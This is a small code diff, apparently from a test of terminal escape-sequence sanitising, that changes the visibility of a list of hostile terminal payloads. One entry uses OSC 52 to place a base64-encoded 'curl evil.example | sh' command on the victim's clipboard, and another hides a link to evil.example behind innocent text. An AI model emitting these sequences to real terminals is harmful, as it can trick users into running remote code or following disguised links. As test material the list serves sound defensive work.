@@ -15,7 +15,7 @@ import {
 } from '../kit';
 
 /** Payloads a hostile source would send a terminal. */
-export const PAYLOADS: Array<[string, string]> = [
+const PAYLOADS: Array<[string, string]> = [
   ['CSI: clear the screen and home the cursor', '\x1b[2J\x1b[H'],
   ['OSC 52: write the clipboard', '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'],
   ['OSC 8: a disguised hyperlink', '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\'],
